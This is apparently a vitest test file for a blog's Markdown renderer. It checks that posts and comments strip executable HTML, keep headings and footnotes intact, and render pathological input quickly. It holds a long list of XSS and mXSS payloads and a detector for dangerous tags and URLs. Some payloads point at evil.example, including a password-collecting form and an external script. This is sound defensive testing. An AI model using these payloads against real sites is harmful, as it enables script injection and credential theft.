import fc from 'fast-check'
import { describe, expect, test } from 'vitest'

import { limits } from '../../../../src/kernel/limits.ts'
import {
  renderCommentMarkdown,
  renderPostMarkdown,
} from '../../../../src/http/markdown/markdown.ts'

/** What a browser would run or load, looked for in HTML that is well formed. */
function dangers(html: string): string[] {
  const found: string[] = []
  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
    if (
      /^<\/?(?:script|style|iframe|object|embed|svg|math|form|input|button|select|link|meta|base|template|noscript|textarea|video|audio|source|track|frame|frameset|applet|image|map|area|dialog|marquee|xmp|plaintext|listing|portal|xss)\b/i.test(
        tag,
      )
    ) {
      found.push(tag)
    }
    if (/\son\w+\s*=/i.test(tag.replace(/"[^"]*"/g, '""'))) found.push(tag)
    if (/\sstyle\s*=/i.test(tag.replace(/"[^"]*"/g, '""'))) found.push(tag)
    const bare = tag.replace(/"[^"]*"/g, '""')
    if (/\s(?:target|ping|background|lowsrc|dynsrc|contenteditable|is|popover)\b/i.test(bare)) {
      found.push(tag)
    }
    for (const [, name, value = ''] of tag.matchAll(
      /\s(href|src|srcset|cite|action|formaction|xlink:href|data)="([^"]*)"/gi,
    )) {
      if (/(?:javascript|vbscript|text\/html)/i.test(name === 'srcset' ? value : ''))
        found.push(tag)
      const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase()
      if (/^(?:javascript|vbscript|file|blob|view-source):/.test(url)) found.push(tag)
      if (url.startsWith('data:') && !(name === 'src' && url.startsWith('data:image/'))) {
        found.push(tag)
      }
    }
  }
  return found
}

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<video src="javascript:alert(1)" onloadstart="alert(1)"></video>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](data:text/html,<script>alert(1)</script>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<p style="background:url(javascript:alert(1));position:fixed">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<img """><script>alert(1)</script>">',
  '<<script>alert(1)//<</script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<h1 id="x" onclick=alert(1)>y</h1>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '<AlertBox onclick="alert(1)">\n<script>alert(1)</script>\n</AlertBox>',
  '<span class="hljs-x" style="position:fixed;inset:0">x</span>',
  // Texts that mean something else once a browser has parsed them again (mXSS).
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
  '<svg><desc><noscript>&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;</desc></svg>',
  '<math><annotation-xml encoding="text/html"><iframe onload=alert(1)></annotation-xml></math>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<p title="\u0060><img src=x onerror=alert(1)>">x</p>',
  // Addresses in disguise.
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="&#14;javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
  '<a href="javascript\n:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<img srcset="javascript:alert(1) 1x, data:text/html,<script>alert(1)</script> 2x">',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" onload=alert(1)>',
  '[x](<javascript:alert(1)>)',
  '[x](\\javascript:alert(1))',
  '![x](https://e.example/"onerror="alert(1))',
  '![x](x.png "caption\\"><img src=x onerror=alert(1)>")',
  '<https://e.example/"onmouseover="alert(1)>',
  // Elements and attributes few people know.
  '<a href="#" ping="https://evil.example" target="_top" download>x</a>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<button formaction="javascript:alert(1)">x</button><input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)" src="x.png">',
  '<svg><animate attributeName=href values=javascript:alert(1) /><use href="data:image/svg+xml,x#y"/></svg>',
  '<svg><image href="x" onload=alert(1)><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<xss onpointerenter=alert(1) style=display:block>x</xss>',
  '<a class="self" href="javascript:alert(1)">x</a>',
  '<h2 id="x" class="self" onclick=alert(1)><a class="self" href="javascript:alert(1)">x</a></h2>',
  '<dialog open>x</dialog><slot name=x></slot><portal src="https://evil.example"></portal>',
  '<p is="x-evil" contenteditable popover>x</p>',
  '<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>',
  '<audio src=x onerror=alert(1)><track onload=alert(1)></audio>',
  '<image src=x onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)><frameset onload=alert(1)>',
]

describe('what Markdown may become', () => {
  test.each(attacks)('nothing in a post can act: %s', (source) => {
    expect(dangers(renderPostMarkdown(source))).toEqual([])
  })

  test.each(attacks)('nothing in a comment can act: %s', (source) => {
    const html = renderCommentMarkdown(source)
    expect(dangers(html)).toEqual([])
    expect(html).not.toMatch(/<(?:img|h[1-6]|table)\b|<[^>]* id=/)
    expect(html).not.toMatch(/<(?!code class="language-|span class="hljs-)[^>]* class=/)
  })

  test('nothing acts however pieces of attacks are put together', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '`',
        '\n',
        '\n\n',
        '&#',
        ';',
        '\\',
        '](',
        '![',
        '<!--',
        '-->',
      ),
      fc.string({ maxLength: 8 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const source = pieces.join('')
        expect(dangers(renderPostMarkdown(source))).toEqual([])
        expect(dangers(renderCommentMarkdown(source))).toEqual([])
      }),
      { numRuns: 300 },
    )
  })
})

describe('a post', () => {
  test('headings start below the title and never jump, wherever the author began', () => {
    const html = renderPostMarkdown('### deep\n\n###### deeper\n\n# top\n\n<h4>raw</h4>\n\n## end')
    expect([...html.matchAll(/<h(\d)/g)].map((match) => match[1])).toEqual([
      '2',
      '3',
      '2',
      '3',
      '3',
    ])
  })

  test('headings have ids that are unique and not those of the page around them', () => {
    const html = renderPostMarkdown('# Main\n\n# Comments\n\n# Twice\n\n# Twice\n\n# Ünïcode ✓')
    const ids = [...html.matchAll(/ id="([^"]*)"/g)].map((match) => match[1])
    expect(ids).toEqual(['main-1', 'comments-1', 'twice', 'twice-1', 'ünïcode'])
  })

  test('a heading links to itself under the id it got, unless it holds a link already', () => {
    const html = renderPostMarkdown(
      '# Main\n\n## A `b`\n\n## A `b`\n\n## [out](https://e.example/)',
    )
    expect(html).toContain('<h2 id="main-1"><a class="self" href="#main-1">Main</a></h2>')
    expect(html).toContain('<h3 id="a-b-1"><a class="self" href="#a-b-1">A <code>b</code></a></h3>')
    expect(html).toContain('<h3 id="out"><a href="https://e.example/">out</a></h3>')
  })

  test('a picture that stands alone with a title is a figure with a caption', () => {
    expect(renderPostMarkdown('![A map](m.png "Where <we> are")')).toBe(
      '<figure><img src="m.png" alt="A map" decoding="async" />' +
        '<figcaption>Where &lt;we&gt; are</figcaption></figure>\n',
    )
    expect(renderPostMarkdown('See ![A map](m.png "Here")')).toContain('title="Here"')
    expect(renderPostMarkdown('![A map](m.png)')).toMatch(/^<p><img /)
  })

  test('raw HTML that is fine stays: details, keys, figures, ruby, abbreviations', () => {
    const html =
      '<details open><summary>More</summary><p>x</p></details>\n' +
      '<figure><blockquote cite="https://e.example/">q</blockquote><figcaption>c</figcaption></figure>\n' +
      '<p><kbd>Ctrl</kbd> <abbr title="HyperText">HT</abbr> <ruby>漢<rt>kan</rt></ruby> <mark>m</mark></p>'
    expect(renderPostMarkdown(html)).toBe(html)
  })

  test.each(['$BIGCMS', '$& and $1 and $$', "C:\\path\\n and 'quotes' “typographic” — dashes…"])(
    'special characters come through untouched: %s',
    (text) => {
      const shown = renderPostMarkdown(`${text}\n\n    ${text}\n`)
        .replaceAll('&amp;', '&')
        .replaceAll('&#39;', "'")
      expect(shown.split(text)).toHaveLength(3)
    },
  )

  test('an ASCII diagram keeps every space', () => {
    const diagram = '+---+   +---+\n| a |-->| b |\n+---+   +---+'
    const html = renderPostMarkdown(diagram.replace(/^/gm, '    '))
    expect(html.replaceAll('&gt;', '>')).toContain(diagram)
  })

  test('code of a known language is coloured, of an unknown one or too long a text shown plain', () => {
    expect(renderPostMarkdown('```js\nconst a = 1\n```')).toContain('hljs-keyword')
    expect(renderPostMarkdown('```erlang\nf(X) -> X.\n```')).toContain('hljs-')
    for (const [name, code] of [
      ['dockerfile', 'FROM node'],
      ['elixir', 'def f, do: 1'],
      ['haskell', 'f :: Int -> Int'],
      ['console', '$ ls'],
      ['mjs', 'const a = 1'],
      ['proto', 'message A {}'],
    ] as const) {
      expect(renderPostMarkdown(`\`\`\`${name}\n${code}\n\`\`\``)).toContain('hljs-')
    }
    expect(renderPostMarkdown('```nosuch\nconst a = 1\n```')).not.toContain('hljs-')
    expect(renderPostMarkdown(`\`\`\`js\n${'const a = 1\n'.repeat(6_000)}\`\`\``)).not.toContain(
      'hljs-',
    )
  })

  test('a table scrolls by itself and its aligned cells say so without style', () => {
    const html = renderPostMarkdown('| a | b |\n|:-:|--:|\n| 1 | 2 |')
    expect(html).toContain('<div class="scroll" tabindex="0"><table>')
    expect(html).toContain('<td class="to-center">1</td>')
  })

  test('task lists have no form controls', () => {
    const html = renderPostMarkdown('- [x] done\n- [ ] open')
    expect(html).not.toContain('<input')
    expect(html).toContain('aria-label="done"')
  })

  test('an MDX component shows its content as Markdown, not its tag', () => {
    const html = renderPostMarkdown(
      'import X from \'./x\'\n\n<AlertBox level="warning">\n**hot**\n</AlertBox>\n',
    )
    expect(html.trim()).toBe('<p><strong>hot</strong></p>')
  })

  test('an embed becomes a link to what it would have shown', () => {
    expect(renderPostMarkdown('<iframe src="https://video.example/1"></iframe>')).toContain(
      '<a href="https://video.example/1" class="embed">https://video.example/1</a>',
    )
  })

  test('images after the first wait to be scrolled to, and keep a size that was given', () => {
    const html = renderPostMarkdown('![a](1.png) <img src="2.png" width="20" height="10">')
    expect(html).toMatch(/<img src="1.png" alt="a" decoding="async" \/>/)
    expect(html).toMatch(/<img src="2.png" alt="" width="20" height="10" loading="lazy"/)
  })

  test('footnotes are numbered by first use, link both ways, and may be named twice', () => {
    const html = renderPostMarkdown('b[^b] a[^a] b[^b] none[^none]\n\n[^a]: A\n[^b]: B *b*\n')
    expect(html).toContain('b<sup class="fn"><a href="#fn-1" id="fnref-1">1</a></sup>')
    expect(html).toContain('<li id="fn-1">B <em>b</em> <a href="#fnref-1"')
    expect(html).toContain('<li id="fn-2">A ')
    expect(html).toContain('none[^none]')
  })
})

describe('a comment', () => {
  test("links are marked as a stranger's", () => {
    expect(renderCommentMarkdown('[x](https://a.example) https://b.example')).toBe(
      '<p><a href="https://a.example" rel="nofollow ugc noopener">x</a> ' +
        '<a href="https://b.example" rel="nofollow ugc noopener">https://b.example</a></p>\n',
    )
  })

  test('HTML is shown as it was typed, line ends are kept', () => {
    expect(renderCommentMarkdown('if a <b> c\nd')).toBe('<p>if a &lt;b&gt; c<br />d</p>\n')
    expect(renderCommentMarkdown('<div>\nx\n</div>')).toBe(
      '<p>&lt;div&gt;<br />x<br />&lt;/div&gt;</p>\n',
    )
  })

  test('emphasis, code, lists and quotations are Markdown', () => {
    const html = renderCommentMarkdown('*a* **b** `c` ~~d~~\n\n- e\n\n1. f\n\n> g\n')
    for (const part of ['<em>a</em>', '<strong>b</strong>', '<code>c</code>', '<del>d</del>']) {
      expect(html).toContain(part)
    }
    for (const part of ['<li>e</li>', '<li>f</li>', '<blockquote>\n<p>g</p>']) {
      expect(html).toContain(part)
    }
  })

  test('headings, tables, pictures and notes are plain: words in bold, text as typed, a link', () => {
    expect(renderCommentMarkdown('# a')).toBe('<p><strong>a</strong></p>\n')
    expect(renderCommentMarkdown('|a|\n|-|\n|b|')).toBe('<p>|a|<br />|-|<br />|b|</p>\n')
    expect(renderCommentMarkdown('![a](https://b.example/c.png)')).toBe(
      '<p><a href="https://b.example/c.png" rel="nofollow ugc noopener">a</a></p>\n',
    )
    expect(renderCommentMarkdown('> [!NOTE]\n> a')).toContain('[!NOTE]<br />a')
  })

  test('code in a fence is in colours, as much of it as is soon done; the rest is plain', () => {
    const html = renderCommentMarkdown('```js\nconst a = "<b>"\n```')
    expect(html).toContain('<code class="language-js"><span class="hljs-keyword">const</span>')
    expect(html).toContain('&lt;b&gt;')
    const long = '```js\nconst a = 1\n```\n\n'.repeat(240)
    const coloured = renderCommentMarkdown(long).match(/hljs-keyword/g)?.length ?? 0
    expect(coloured).toBe(Math.floor(limits.commentHighlightCharsMax / 'const a = 1'.length))
  })
})

describe('texts made to take long', () => {
  test.each(['*a_', '[', '![', '<b>', '`a', '> ', '- '])(
    'a comment of 32 kB of %s is shown within a moment',
    (piece) => {
      const source = piece.repeat(Math.floor(32_768 / piece.length))
      const began = performance.now()
      const html = renderCommentMarkdown(source)
      // Measured: below 300 ms; rendered as Markdown the worst takes ten seconds.
      expect(performance.now() - began).toBeLessThan(3_000)
      expect(html).toContain('<')
    },
  )

  test('ten thousand equal headings are numbered in a moment', () => {
    const began = performance.now()
    expect(renderPostMarkdown('# x\n'.repeat(10_000))).toContain('id="x-9999"')
    expect(performance.now() - began).toBeLessThan(5_000)
  })
})
